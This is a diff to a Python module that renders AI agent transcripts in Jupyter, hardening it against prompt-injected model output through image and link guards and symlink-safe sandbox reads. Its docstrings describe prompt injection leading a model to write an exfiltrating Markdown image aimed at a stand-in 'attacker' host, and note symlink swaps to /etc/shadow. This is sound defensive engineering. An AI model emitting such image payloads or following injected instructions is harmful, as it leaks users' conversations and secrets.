@@ -5,6 +5,14 @@ collapsible block, with its arguments and result, that fills in when the call fi
 interpreter appear inline, and failures are marked in red. Everything a tool returned is HTML-escaped: a tool
 result is data, never markup, and model text is rendered by a Markdown renderer with raw HTML switched off.
 
+Model text is hostile input (a prompt injection can make the model write anything), and a displayed image is a
+request the browser makes at once: `![x](https://attacker/?q=<secret>)` would leak the conversation without a
+click. So an image is shown only when it needs no request: a raster `data:` URI, or a file of this
+conversation's sandbox, read here and inlined. Any other image becomes a link (or its text), links carry
+`rel="noopener noreferrer"` and only http(s), mailto and relative targets, and the Markdown representations
+escape every image and tag outside code. Sandbox files are read without following links, since the kernel
+that wrote them can plant one.
+
 IPython is imported only when something is displayed, so plain Python never loads it or needs it.
 """
 
@@ -16,10 +24,14 @@ import functools
 import html
 import json
 import logging
+import os
 import re
+import stat
 import sys
 import time
-from collections.abc import Callable, Iterator, Mapping, Sequence
+import urllib.parse
+from collections import Counter
+from collections.abc import Callable, Iterator, Mapping, MutableMapping, Sequence
 from dataclasses import dataclass, field
 from pathlib import Path, PurePosixPath
 from typing import TYPE_CHECKING, Any
@@ -29,6 +41,12 @@ from functionary_agent._interpreter import PYTHON, PythonTool, code_of
 from functionary_agent.events import Event, FinalAnswer, TextDelta, ToolCallArgumentsDelta, ToolCallStarted, ToolResult
 
 if TYPE_CHECKING:
+    from markdown_it import MarkdownIt
+    from markdown_it.renderer import RendererHTML
+    from markdown_it.rules_core import StateCore
+    from markdown_it.token import Token
+    from markdown_it.utils import OptionsDict
+
     from functionary_agent.conversation import Content, Conversation
 
 logger = logging.getLogger(__name__)
@@ -43,7 +61,23 @@ ImageResolver = Callable[[str], Path | None]
 _IMAGE_LINE = re.compile(r"^\[image saved: (.+)\]$", re.MULTILINE)
 _IMAGE_TYPES = {".png": "image/png", ".jpg": "image/jpeg", ".jpeg": "image/jpeg", ".gif": "image/gif",
                 ".svg": "image/svg+xml"}
-_MAX_IMAGE_BYTES = 20 * 1024 * 1024
+_MAX_IMAGE_BYTES = 16 * 1024 * 1024
+# `data:` images model text may show. SVG is left out: it is a document that can carry script and links.
+_MODEL_IMAGE_TYPES = frozenset({"image/png", "image/jpeg", "image/gif", "image/webp"})
+# What an <img> of ours may show. SVG from the sandbox is included: in <img> a browser renders SVG in its secure
+# static mode (no script runs, no external resource is fetched), and a data: URI has no origin to act for.
+_SHOWN_IMAGE_TYPES = _MODEL_IMAGE_TYPES | {"image/svg+xml"}
+_LINK_SCHEMES = frozenset({"http", "https", "mailto"})
+_WEB_SCHEMES = frozenset({"http", "https"})
+_REL = "noopener noreferrer"
+_RESOLVE_KEY = "functionary_agent.resolve_image"  # where the markdown-it environment carries the resolver
+_MAX_ESCAPE_TRIALS = 40  # parses spent finding the autolinks of one text; past that, their `<` is escaped too
+_MAX_MARKDOWN_NESTING = 40  # markdown-it stops reading deeper; the check fences text that comes close
+# Sandbox files are opened without following a symbolic link at any step of the path.
+_NO_FOLLOW = getattr(os, "O_NOFOLLOW", 0)
+_DIRECTORY_FLAGS = getattr(os, "O_DIRECTORY", 0) | _NO_FOLLOW | getattr(os, "O_PATH", os.O_RDONLY)
+_FILE_FLAGS = os.O_RDONLY | _NO_FOLLOW | getattr(os, "O_NONBLOCK", 0)
+_CAN_REFUSE_LINKS = bool(_NO_FOLLOW and hasattr(os, "O_DIRECTORY") and os.open in os.supports_dir_fd)
 _RED = "#d32f2f"
 # state -> (icon, label, colour)
 _STATES = {
@@ -195,90 +229,396 @@ def _code_span(text: str) -> str:
 
 
 # -- Markdown text -----------------------------------------------------------------------------------------
-def _markdown_html(text: str) -> str:
+def _markdown_html(text: str, resolve: ImageResolver | None = None) -> str:
     """Model and user text as HTML: Markdown rendered with raw HTML off, so a `<script>` the model repeats from
-    a tool result stays text. Without markdown-it (a dependency of rich) the text is shown escaped as is."""
+    a tool result stays text, and with images and links guarded (see `_guard_links_and_images`). Without
+    markdown-it (a dependency of rich) the text is shown escaped as is."""
     renderer = _markdown_renderer()
     if renderer is None:
         return f'<div style="white-space:pre-wrap">{html.escape(text)}</div>'
-    return str(renderer.render(text))
+    return str(renderer.render(text, {_RESOLVE_KEY: resolve}))
 
 
 @functools.lru_cache(maxsize=1)
-def _markdown_renderer() -> Any:
+def _markdown_renderer() -> MarkdownIt | None:
     try:
         from markdown_it import MarkdownIt
     except ImportError:
         return None
-    return MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
+    renderer = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
+    renderer.core.ruler.push("guard_links_and_images", _guard_links_and_images)
+    renderer.add_render_rule("image", _render_image)
+    return renderer
 
 
-def _text_bundle(text: str) -> Bundle:
-    return {"text/html": f'<div class="fa-text">{_markdown_html(text)}</div>', "text/markdown": text,
-            "text/plain": text}
+def _text_bundle(text: str, resolve: ImageResolver | None = None) -> Bundle:
+    return {"text/html": f'<div class="fa-text">{_markdown_html(text, resolve)}</div>',
+            "text/markdown": _inert_markdown(text), "text/plain": text}
+
+
+# -- links and images in model text -------------------------------------------------------------------------
+def _guard_links_and_images(state: StateCore) -> None:
+    """A markdown-it core rule, run after inline parsing: rewrites every inline token stream so that no image
+    makes a request and no link leads to a script."""
+    resolve = state.env.get(_RESOLVE_KEY)
+    for token in state.tokens:
+        if token.type == "inline" and token.children:
+            token.children = _guarded_inline(token.children, resolve)
+
+
+def _guarded_inline(children: list[Token], resolve: ImageResolver | None) -> list[Token]:
+    """Links keep their `<a>` only for http(s), mailto and relative targets, and get `rel`; a link to anything
+    else shows its text. Images go through `_guarded_image`."""
+    guarded: list[Token] = []
+    links_kept: list[bool] = []  # one entry per link being read: whether its <a> is kept
+    for token in children:
+        if token.type == "link_open":
+            keep = _is_safe_link(str(token.attrGet("href") or ""))
+            links_kept.append(keep)
+            if keep:
+                token.attrSet("rel", _REL)
+                guarded.append(token)
+        elif token.type == "link_close":
+            if links_kept.pop() if links_kept else True:
+                guarded.append(token)
+        elif token.type == "image":
+            guarded += _guarded_image(token, resolve, inside_link=any(links_kept))
+        else:
+            guarded.append(token)
+    return guarded
+
+
+def _guarded_image(token: Token, resolve: ImageResolver | None, *, inside_link: bool) -> list[Token]:
+    """An image stays an image when it needs no request: a raster `data:` URI, or a sandbox file, inlined here.
+    Any other image becomes a link to its address (its text alone inside a link, or for a non-web address)."""
+    from markdown_it.token import Token
+
+    src = str(token.attrGet("src") or "")
+    if _data_uri_type(src) in _MODEL_IMAGE_TYPES:
+        return [token]
+    inlined = _sandbox_data_uri(src, resolve)
+    if inlined is not None:
+        token.attrSet("src", inlined)
+        return [token]
+    label = Token("text", "", 0, content=_plain_text(token.children or []) or src)
+    if inside_link or not _is_web_url(src):
+        return [label]
+    link_open = Token("link_open", "a", 1)
+    link_open.attrSet("href", src)
+    link_open.attrSet("rel", _REL)
+    return [link_open, label, Token("link_close", "a", -1)]
+
+
+def _render_image(self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict,
+                  env: MutableMapping[str, Any]) -> str:
+    """The `<img>` of a guarded image. The source is checked again (a `data:` image of a shown type, nothing
+    that makes a request), so an image the core rule did not see still cannot become a request."""
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    alt = html.escape(_plain_text(token.children or []))
+    if _data_uri_type(src) not in _SHOWN_IMAGE_TYPES:
+        return alt
+    title = token.attrGet("title")
+    title_attribute = f' title="{html.escape(str(title))}"' if title else ""
+    return f'<img src="{html.escape(src)}" alt="{alt}"{title_attribute} style="max-width:100%"/>'
+
+
+def _plain_text(tokens: Sequence[Token]) -> str:
+    """The text of an image description, without its markup (what `alt` holds)."""
+    pieces = []
+    for token in tokens:
+        if token.type in ("text", "code_inline"):
+            pieces.append(token.content)
+        elif token.type in ("softbreak", "hardbreak"):
+            pieces.append(" ")
+        elif token.children:
+            pieces.append(_plain_text(token.children))
+    return "".join(pieces)
+
+
+def _data_uri_type(url: str) -> str | None:
+    """The media type of a `data:` URI, in lower case; None for any other URL."""
+    if url[:5].lower() != "data:":
+        return None
+    return url[5:].split(",", 1)[0].split(";", 1)[0].strip().lower()
+
+
+def _scheme(url: str) -> str | None:
+    """The scheme a browser reads in `url`, in lower case (None for a relative URL). As the URL standard does,
+    leading controls and spaces are dropped and tabs and newlines removed before it is read; a colon before any
+    `/`, `?` or `#` makes a scheme (`java%09script:` is one, and not allowed)."""
+    cleaned = "".join(ch for ch in url.lstrip("".join(map(chr, range(0x21)))) if ch not in "\t\n\r")
+    head = re.split(r"[/?#]", cleaned, maxsplit=1)[0]
+    return head.split(":", 1)[0].lower() if ":" in head else None
+
+
+def _is_safe_link(href: str) -> bool:
+    scheme = _scheme(href)
+    return scheme is None or scheme in _LINK_SCHEMES
+
+
+def _is_web_url(url: str) -> bool:
+    return _scheme(url) in _WEB_SCHEMES or url.lstrip().startswith("//")
+
+
+# -- Markdown for viewers that render it ----------------------------------------------------------------------
+def _inert_markdown(text: str) -> str:
+    """Model text as Markdown no viewer turns into a request. Jupyter and GitHub render Markdown with raw HTML
+    on, so `![x](https://attacker/?q=...)` or `<img src=...>` would be fetched as soon as it shows: each `<` and
+    image `[` outside code gets a backslash (it reads the same, as plain text), and text that markdown-it still
+    reads as an image or HTML afterwards is shown as a code block. Other text is returned unchanged."""
+    if "<" not in text and "![" not in text:
+        return text  # no image and no HTML can start without one of these
+    parser = _markdown_checker()
+    if parser is None:
+        return _fence(text, "text")
+    text = text.replace("\r\n", "\n").replace("\r", "\n")  # lines as markdown-it counts them
+    try:
+        escaped = _escape_outside_code(parser, text)
+        inert = _is_inert(parser.parse(escaped))
+    except RecursionError:  # nesting deeper than Python's stack: nothing legitimate
+        inert = False
+    return escaped if inert else _fence(text, "text")
+
+
+@functools.lru_cache(maxsize=1)
+def _markdown_checker() -> MarkdownIt | None:
+    """markdown-it reading text as a Markdown viewer does: raw HTML on, nesting followed deeper than usual."""
+    try:
+        from markdown_it import MarkdownIt
+    except ImportError:
+        return None
+    options = {"maxNesting": _MAX_MARKDOWN_NESTING + 10}
+    return MarkdownIt("commonmark", options).enable(["table", "strikethrough"])
+
+
+@dataclass
+class _Reading:
+    """What escaping must keep (code as shown, the links) and what it must remove (images, raw HTML)."""
+
+    code: list[str]
+    links: Counter[str]
+    fetching: int
+
+
+def _reading(tokens: Sequence[Token]) -> _Reading:
+    reading = _Reading([], Counter(), 0)
+    for token in tokens:
+        if token.type in ("code_inline", "code_block", "fence"):
+            reading.code.append(token.content)
+        elif token.type == "link_open":
+            reading.links[str(token.attrGet("href"))] += 1
+        elif token.type in ("image", "html_inline", "html_block"):
+            reading.fetching += 1
+        if token.children:
+            inner = _reading(token.children)
+            reading.code += inner.code
+            reading.links += inner.links
+            reading.fetching += inner.fetching
+    return reading
+
+
+def _escape_outside_code(parser: MarkdownIt, text: str) -> str:
+    """`text` with a backslash before each `<` and image `[` outside code (inside, it would show). Fenced and
+    indented blocks are skipped by their lines, code spans found by `_outside_code_spans`; an autolink's `<` is
+    left as it is when a few trials find it (escaping it would lose the link)."""
+    tokens = parser.parse(text)
+    positions = _outside_code_spans(parser, text, _escapable_positions(text, tokens))
+    before = _reading(tokens).links
+    escaped = _with_backslashes(text, positions)
+    tags = [position for position in positions if text[position] == "<"]
+    if not before - _reading(parser.parse(escaped)).links or len(tags) > _MAX_ESCAPE_TRIALS:
+        return escaped
+    linking = {tag for tag in tags if before - _reading(parser.parse(_with_backslashes(text, [tag]))).links}
+    return _with_backslashes(text, [position for position in positions if position not in linking])
+
+
+def _outside_code_spans(parser: MarkdownIt, text: str, positions: list[int]) -> list[int]:
+    """Those of `positions` that are not inside a code span once all are escaped. The token stream has no
+    positions, so each is replaced by a private-use character of its own (as inert as an escaped one, and code
+    spans end where they did) and one parse shows which turn up inside code."""
+    first, last = 0xF0000, 0xFFFFD  # Supplementary Private Use Area-A
+    if len(positions) > last - first or any(first <= ord(ch) <= last for ch in text):
+        return positions  # cannot mark them apart: escape all (a code span may show a backslash)
+    marked = list(text)
+    for number, position in enumerate(positions):
+        marked[position] = chr(first + number)
+    code = "".join(_reading(parser.parse("".join(marked))).code)
+    inside = {ord(ch) - first for ch in code if first <= ord(ch) <= last}
+    return [position for number, position in enumerate(positions) if number not in inside]
+
+
+def _escapable_positions(text: str, tokens: Sequence[Token]) -> list[int]:
+    """Where a `<` or an image's `[` starts (not already escaped), outside fenced and indented code blocks."""
+    code_lines = {line for token in tokens if token.type in ("fence", "code_block") and token.map
+                  for line in range(*token.map)}
+    positions: list[int] = []
+    offset = 0
+    for number, line in enumerate(text.split("\n")):
+        if number not in code_lines:
+            positions += [offset + i for i in range(len(line)) if _starts_syntax(line, i)]
+        offset += len(line) + 1
+    return positions
+
+
+def _starts_syntax(line: str, index: int) -> bool:
+    ch = line[index]
+    if ch != "<" and not (ch == "[" and line[index - 1 : index] == "!"):
+        return False
+    backslashes = len(line[:index]) - len(line[:index].rstrip("\\"))
+    return backslashes % 2 == 0
+
+
+def _with_backslashes(text: str, positions: Sequence[int]) -> str:
+    pieces, start = [], 0
+    for position in sorted(positions):
+        pieces += [text[start:position], "\\"]
+        start = position
+    return "".join(pieces) + text[start:]
+
+
+def _is_inert(tokens: Sequence[Token]) -> bool:
+    """No image and no raw HTML, and nesting well short of where markdown-it stops reading (past it, a viewer
+    that reads deeper could find what markdown-it did not)."""
+    return _reading(tokens).fetching == 0 and _deepest(tokens) < _MAX_MARKDOWN_NESTING
+
+
+def _deepest(tokens: Sequence[Token]) -> int:
+    return max((max(token.level, _deepest(token.children or [])) for token in tokens), default=0)
 
 
 # -- images ------------------------------------------------------------------------------------------------
 def image_resolver(chat: Conversation) -> ImageResolver:
     """Finds the host file behind an interpreter image path, inside the conversation's sandbox workdir only:
-    result text can be written by the model's code, so a path that leads elsewhere is never read."""
-    roots = [(tool.sandbox.data_path, tool.sandbox.workdir) for tool in chat.tools if isinstance(tool, PythonTool)]
+    result text can be written by the model's code, so a path that leads elsewhere is never read. The path
+    returned names a regular file reached through real directories; the read itself (`_read_sandbox_file`)
+    follows no link, since the kernel can swap one in at any moment."""
+    roots = [(PurePosixPath(tool.sandbox.data_path), Path(tool.sandbox.workdir).resolve())
+             for tool in chat.tools if isinstance(tool, PythonTool)]
 
     def resolve(visible: str) -> Path | None:
         for data_path, workdir in roots:
-            try:
-                relative = PurePosixPath(visible).relative_to(data_path)
-            except ValueError:
-                continue
-            candidate = (Path(workdir) / relative).resolve()
-            if candidate.is_relative_to(Path(workdir).resolve()) and candidate.is_file():
-                return candidate
+            found = _file_inside(workdir, data_path, visible)
+            if found is not None:
+                return found
         return None
 
     return resolve
 
 
+def _file_inside(workdir: Path, data_path: PurePosixPath, visible: str) -> Path | None:
+    """`visible` (a path under `data_path`, as the kernel sees it) as a host path under `workdir` (resolved),
+    when it names a regular file there: no `..`, no link as the file, no link among its directories."""
+    try:
+        relative = PurePosixPath(visible).relative_to(data_path)
+    except ValueError:
+        return None
+    if not relative.parts or ".." in relative.parts:
+        return None
+    candidate = workdir.joinpath(*relative.parts)
+    try:
+        regular = stat.S_ISREG(candidate.lstat().st_mode)
+        return candidate if regular and candidate.parent.resolve() == candidate.parent else None
+    except (OSError, ValueError):  # gone, unreadable, or a name no file can have
+        return None
+
+
 def _load_images(content: str, resolve: ImageResolver | None) -> list[tuple[str, bytes]]:
     """The images an interpreter result names in its `[image saved: ...]` lines, read through `resolve`."""
-    found = (resolve(visible) for visible in _IMAGE_LINE.findall(content)) if resolve else ()
-    images = []
-    for path in (path for path in found if path is not None):
-        mime = _IMAGE_TYPES.get(path.suffix.lower())
-        try:
-            if mime and path.stat().st_size <= _MAX_IMAGE_BYTES:
-                images.append((mime, path.read_bytes()))
-        except OSError as exc:
-            logger.debug("image %s not shown: %s", path, exc)
-    return images
+    if resolve is None:
+        return []
+    found = (_sandbox_image(visible, resolve) for visible in _IMAGE_LINE.findall(content))
+    return [image for image in found if image is not None]
+
+
+def _sandbox_image(visible: str, resolve: ImageResolver) -> tuple[str, bytes] | None:
+    """(mime type, bytes) of the image file `resolve` finds for `visible`, when it is one and can be read."""
+    path = resolve(visible)
+    mime = _IMAGE_TYPES.get(path.suffix.lower()) if path is not None else None
+    if path is None or mime is None:
+        return None
+    data = _read_sandbox_file(path, _MAX_IMAGE_BYTES)
+    return (mime, data) if data is not None else None
+
+
+def _sandbox_data_uri(src: str, resolve: ImageResolver | None) -> str | None:
+    """The `data:` URI of the sandbox image an image in model text names by path (`/mnt/data/plot.png`)."""
+    if resolve is None or _scheme(src) is not None or src.startswith("//"):
+        return None
+    image = _sandbox_image(urllib.parse.unquote(src), resolve)  # markdown-it percent-encodes the path
+    if image is None:
+        return None
+    mime, data = image
+    return f"data:{mime};base64,{base64.b64encode(data).decode('ascii')}"
+
+
+def _read_sandbox_file(path: Path, limit: int) -> bytes | None:
+    """The bytes of `path` when it is a regular file of at most `limit` bytes with one name, reached without
+    following a link. The kernel that wrote it is hostile and can swap the file for a link (to /etc/shadow,
+    say) between any check and the read, so nothing is checked by name: the file is opened once, without
+    following links, then checked and read through that one descriptor."""
+    try:
+        descriptor = _open_without_links(path)
+        with open(descriptor, "rb") as file:
+            info = os.fstat(descriptor)
+            if not stat.S_ISREG(info.st_mode) or info.st_nlink != 1 or info.st_size > limit:
+                logger.debug("image %s not read: not a plain file of at most %d bytes", path, limit)
+                return None
+            data = file.read(limit + 1)  # the file can grow after fstat
+    except (OSError, ValueError) as exc:
+        logger.debug("image %s not read: %s", path, exc)
+        return None
+    return data if len(data) <= limit else None
+
+
+def _open_without_links(path: Path) -> int:
+    """A read-only descriptor for `path`, opened one directory at a time from `/`, each step relative to the
+    last with O_NOFOLLOW: a symbolic link anywhere on the path, there before or swapped in meanwhile, makes the
+    open fail (ELOOP, ENOTDIR) rather than lead elsewhere. O_NONBLOCK keeps a planted FIFO from hanging us."""
+    if not _CAN_REFUSE_LINKS:
+        raise OSError("this platform cannot open a file without following links")
+    parts = Path(os.path.abspath(path)).parts  # made absolute without reading the file system
+    directory = os.open(parts[0], _DIRECTORY_FLAGS)
+    try:
+        for name in parts[1:-1]:
+            child = os.open(name, _DIRECTORY_FLAGS, dir_fd=directory)
+            os.close(directory)
+            directory = child
+        return os.open(parts[-1], _FILE_FLAGS, dir_fd=directory)
+    finally:
+        os.close(directory)
 
 
 # -- the static rendering ----------------------------------------------------------------------------------
 def render_markdown(messages: Sequence[Mapping[str, Any]]) -> str:
     """The whole conversation as Markdown: who said what, each call with its arguments and result in fenced
-    blocks (never raw HTML, so nothing a tool returned can become markup). Images stay as their paths."""
+    blocks (never raw HTML, so nothing a tool returned can become markup). Images stay as their paths, and
+    images and tags in the messages' text are escaped: a Markdown viewer would fetch them as it shows them."""
     parts = []
     for kind, value in _transcript(messages, None):
         if isinstance(value, _Call):
             parts.append(_call_markdown(value))
         else:
-            parts.append(f"**{_ROLE_LABELS.get(kind, kind)}**\n\n{value}")
+            parts.append(f"**{_ROLE_LABELS.get(kind, kind)}**\n\n{_inert_markdown(value)}")
     return "\n\n".join(parts)
 
 
 def render_html(messages: Sequence[Mapping[str, Any]], *, resolve_image: ImageResolver | None = None) -> str:
     """The whole conversation as one HTML block: text as Markdown, calls as collapsible blocks, the system
-    prompt folded away. Interpreter images are embedded when `resolve_image` finds their files."""
+    prompt folded away. Interpreter images, and images the text names by sandbox path, are embedded when
+    `resolve_image` finds their files; no other image is fetched (see `_guarded_image`)."""
     parts = []
     for kind, value in _transcript(messages, resolve_image):
         if isinstance(value, _Call):
             parts.append(_call_html(value))
         elif kind == "system":
             parts.append(f'<details class="fa-system" style="{_BOX.format(colour="#757575")}">'
-                         f"<summary>System</summary>{_markdown_html(value)}</details>")
+                         f"<summary>System</summary>{_markdown_html(value, resolve_image)}</details>")
         else:
             label = html.escape(_ROLE_LABELS.get(kind, kind))
             parts.append(f'<div class="fa-{html.escape(kind)}" style="margin:6px 0">'
-                         f'<div style="font-weight:600;opacity:0.7">{label}</div>{_markdown_html(value)}</div>')
+                         f'<div style="font-weight:600;opacity:0.7">{label}</div>'
+                         f"{_markdown_html(value, resolve_image)}</div>")
     return f'<div class="fa-conversation">{"".join(parts)}</div>'
 
 
@@ -331,23 +671,24 @@ def _text_of(content: Any) -> str:
 # -- the live display --------------------------------------------------------------------------------------
 class _Output:
     """One display in the cell, replaced in place. Updates closer together than `interval` are merged, so a
-    fast stream does not flood the frontend with a message per token."""
+    fast stream does not flood the frontend with a message per token; an update is given as the function that
+    makes its bundle, called only when it is shown (rendering Markdown per token would be wasted)."""
 
     def __init__(self, show: Show, bundle: Bundle, clock: Callable[[], float], interval: float) -> None:
         self._update = show(bundle)
         self._clock = clock
         self._interval = interval
         self._shown_at = clock()
-        self._pending: Bundle | None = None
+        self._pending: Callable[[], Bundle] | None = None
 
-    def set(self, bundle: Bundle, *, now: bool = False) -> None:
+    def set(self, bundle: Callable[[], Bundle], *, now: bool = False) -> None:
         self._pending = bundle
         if now or self._clock() - self._shown_at >= self._interval:
             self.flush()
 
     def flush(self) -> None:
         if self._pending is not None:
-            self._update(self._pending)
+            self._update(self._pending())
             self._pending = None
             self._shown_at = self._clock()
 
@@ -359,7 +700,7 @@ class _LiveCall:
     output: _Output
 
     def refresh(self, *, now: bool = False) -> None:
-        self.output.set(_call_bundle(self.call), now=now)
+        self.output.set(functools.partial(_call_bundle, self.call), now=now)
 
 
 def _call_bundle(call: _Call) -> Bundle:
@@ -437,9 +778,9 @@ class LiveDisplay:
         self._text_value += text
         if self._text is None:
             if self._text_value.strip():  # no empty display for the whitespace before a call
-                self._text = self._new_output(_text_bundle(self._text_value))
+                self._text = self._new_output(_text_bundle(self._text_value, self._resolve))
         else:
-            self._text.set(_text_bundle(self._text_value))
+            self._text.set(functools.partial(_text_bundle, self._text_value, self._resolve))
 
     def _on_call_started(self, event: ToolCallStarted) -> None:
         self._close_text()
